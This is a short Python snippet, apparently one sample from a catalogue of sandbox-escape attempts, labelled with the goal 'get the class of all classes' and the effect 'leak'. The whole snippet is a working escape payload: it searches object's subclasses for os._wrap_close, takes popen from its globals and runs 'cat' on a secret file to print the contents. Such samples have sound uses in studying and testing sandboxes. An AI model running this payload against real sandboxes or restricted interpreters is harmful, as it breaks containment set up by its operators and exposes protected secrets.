"""
goal: get the class of all classes and its methods
effect: leak
"""

kind = type(type(1))
for each in kind.__subclasses__(object):
    if each.__name__ == "_wrap_close":
        print(each.__init__.__globals__["popen"]("cat " + SECRET_FILE).read())
